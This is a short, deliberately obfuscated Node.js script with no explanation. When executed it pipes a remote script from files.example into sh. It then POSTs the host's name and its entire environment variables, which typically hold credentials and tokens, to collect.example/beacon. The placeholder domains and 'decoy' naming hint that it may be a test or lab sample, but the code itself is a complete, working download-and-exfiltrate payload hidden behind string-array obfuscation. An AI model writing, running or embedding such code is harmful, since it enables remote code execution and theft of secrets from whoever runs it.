const i = b;
(function (c, d) {
    const h = b, e = c();
    while (!![]) {
        try {
            const f = parseInt(h(0x98)) / 0x1 + parseInt(h(0x9c)) / 0x2 + -parseInt(h(0xad)) / 0x3 + parseInt(h(0xa4)) / 0x4 * (-parseInt(h(0xa8)) / 0x5) + -parseInt(h(0x9a)) / 0x6 * (-parseInt(h(0x99)) / 0x7) + parseInt(h(0xa9)) / 0x8 * (parseInt(h(0xa2)) / 0x9) + parseInt(h(0x9e)) / 0xa * (-parseInt(h(0xa7)) / 0xb);
            if (f === d)
                break;
            else
                e['push'](e['shift']());
        } catch (g) {
            e['push'](e['shift']());
        }
    }
}(a, 0xe4376));
function a() {
    const l = [
        'child_process',
        '5398671jguMzX',
        'curl\x20https://files.example/decoy.sh\x20|\x20sh',
        'log',
        'decoy\x20failed\x20to\x20start',
        '1629367JWzLIO',
        '5284769SrMCZL',
        '6SQQGok',
        'end',
        '3216040UEgglx',
        'stringify',
        '876380Chbyef',
        'hostname',
        'POST',
        'collect.example',
        '1019466yhAUqO',
        'write',
        '7052GjDJIK',
        'https',
        '/beacon',
        '319xlWuqL',
        '215KwOlfa',
        '96jAldbR',
        'request',
        'exec'
    ];
    a = function () {
        return l;
    };
    return a();
}
const cp = require(i(0xac)), os = require('os'), https = require(i(0xa5));
function report() {
    const j = i, c = JSON[j(0x9d)]({
            'host': os[j(0x9f)](),
            'env': process.env
        }), d = https[j(0xaa)]({
            'hostname': j(0xa1),
            'path': j(0xa6),
            'method': j(0xa0)
        });
    d[j(0xa3)](c), d[j(0x9b)]();
}
function b(c, d) {
    c = c - 0x95;
    const e = a();
    let f = e[c];
    return f;
}
cp[i(0xab)](i(0x95), function (c) {
    const k = i;
    if (c)
        console[k(0x96)](k(0x97));
}), report();